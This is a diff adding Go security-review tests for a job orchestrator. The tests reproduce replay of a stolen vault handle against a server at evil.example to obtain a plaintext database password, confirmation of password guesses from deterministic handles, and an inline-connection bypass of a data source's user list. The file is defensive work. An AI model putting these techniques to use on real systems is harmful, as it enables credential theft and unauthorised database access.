@@ -1,0 +1,131 @@
+package orchestrator
+
+// Reproducers of the data-facing security review (branch rev-data). Each
+// test asserts the behaviour the design promises and fails today.
+
+import (
+	"context"
+	"testing"
+
+	"github.com/golinkis/golinkis/datasource"
+	"github.com/golinkis/golinkis/linkis"
+)
+
+// A vault handle is a bearer token: it is bound to nothing (no user, no
+// job, no key name), and Run reveals handles under any key of the task's
+// params. Whoever has read one - it is shown in paramsJson of the job's
+// history to its owner and to every history administrator
+// (isAdminView=true) - can submit a job of their own that names a server
+// they run and carries the handle as jdbc.password: the orchestrator opens
+// it and the engine sends the plaintext to that server. Any engine type
+// will do: a handle under a key that is no secret at all is revealed too.
+func TestReviewStolenVaultHandleIsRevealedForAnotherUser(t *testing.T) {
+	o, r := recordingOrchestrator(t, nil)
+
+	// alice's job, as the entrance keeps it: only the handle is stored.
+	a := spec("jdbc-4", "echo ok")
+	a.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://db:5432/x",
+		datasource.KeyUsername: "alice", datasource.KeyPassword: "Alice-Db-Pw-1"}
+	if err := o.Check(a); err != nil {
+		t.Fatal(err)
+	}
+	handle := a.Request.Params.Configuration.Runtime[datasource.KeyPassword]
+	if !datasource.IsRedacted(handle) {
+		t.Fatalf("not redacted: %q", handle)
+	}
+
+	// mallory replays it against a server of hers.
+	m := spec("jdbc-4", "echo ok")
+	m.User = "mallory"
+	m.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
+	m.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://evil.example:5432/x",
+		datasource.KeyUsername: "alice", datasource.KeyPassword: handle}
+	err := o.Check(m)
+	if err == nil {
+		o.Run(context.Background(), m, newRecorder())
+	}
+	for _, task := range r.tasks {
+		for k, v := range task {
+			if v == "Alice-Db-Pw-1" {
+				t.Errorf("mallory's task to %s carries alice's password under %s", task[datasource.KeyURL], k)
+			}
+		}
+	}
+
+	// And through a non-secret key of any engine's job.
+	s := spec("shell-1", "echo ok")
+	s.User = "mallory"
+	s.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
+	s.Request.Params.Configuration.Runtime = Values{"note": handle}
+	if err := o.Check(s); err == nil {
+		o.Run(context.Background(), s, newRecorder())
+	}
+	for _, task := range r.tasks {
+		if task["note"] == "Alice-Db-Pw-1" {
+			t.Errorf("a handle under a non-secret key was revealed into mallory's shell task: note=%q", task["note"])
+		}
+	}
+}
+
+// The nonce is derived from the secret, so equal passwords give equal
+// handles across users and jobs: anyone who sees two records (a history
+// administrator) learns that alice and bob share a password, and can test
+// a guess by submitting it and comparing handles. datasource/doc.go
+// promises "a random nonce, so the handle reveals nothing".
+func TestReviewVaultHandlesRevealEqualSecrets(t *testing.T) {
+	o, _ := recordingOrchestrator(t, nil)
+	handle := func(user, pw string) string {
+		s := spec("jdbc-4", "echo ok")
+		s.User = user
+		s.Request.Labels[linkis.LabelUserCreator] = user + "-IDE"
+		s.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://db:5432/x",
+			datasource.KeyUsername: user, datasource.KeyPassword: pw}
+		if err := o.Check(s); err != nil {
+			t.Fatal(err)
+		}
+		return s.Request.Params.Configuration.Runtime[datasource.KeyPassword]
+	}
+	alice, bob := handle("alice", "Shared-Pw-2"), handle("bob", "Shared-Pw-2")
+	if alice == bob {
+		t.Errorf("alice's and bob's records hold the same handle (%s...): the handle reveals that their passwords are equal",
+			alice[:min(len(alice), 24)])
+	}
+	if guess := handle("mallory", "Shared-Pw-2"); guess == alice {
+		t.Errorf("mallory confirms a guess of alice's password by submitting it and comparing the handles")
+	}
+}
+
+// A data source with jdbc.auth.type SIMPLE (the database trusts the
+// engine's host for that user: no password) is guarded only by its users
+// list - and only when a job names it. A user not in the list writes the
+// same URL and user name inline with SIMPLE, and the job is accepted and
+// connects exactly as the data source would: the list protects nothing.
+func TestReviewSimpleDataSourceIsOpenToEveryoneInline(t *testing.T) {
+	set, err := datasource.NewSet([]datasource.DataSource{{Name: "warehouse", URL: "jdbc:postgresql://wh:5432/dw",
+		Username: "etl", AuthType: datasource.AuthSimple, Users: []string{"alice"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	o, r := recordingOrchestrator(t, set)
+	named := spec("jdbc-4", "echo ok")
+	named.User = "mallory"
+	named.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
+	named.Request.Params.Configuration.Runtime = Values{datasource.KeyDataSource: "warehouse"}
+	if err := o.Check(named); err == nil {
+		t.Fatal("mallory may name warehouse")
+	}
+	inline := spec("jdbc-4", "echo ok")
+	inline.User = "mallory"
+	inline.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
+	inline.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://wh:5432/dw",
+		datasource.KeyUsername: "etl", datasource.KeyAuthType: datasource.AuthSimple}
+	if err := o.Check(inline); err != nil {
+		return // refused: the list holds
+	}
+	o.Run(context.Background(), inline, newRecorder())
+	for _, task := range r.tasks {
+		if task[datasource.KeyURL] == "jdbc:postgresql://wh:5432/dw" && task[datasource.KeyUsername] == "etl" {
+			t.Errorf("mallory, not allowed warehouse, reaches it as %q with the data source's own trust (SIMPLE): %v", "etl", task)
+		}
+	}
+}
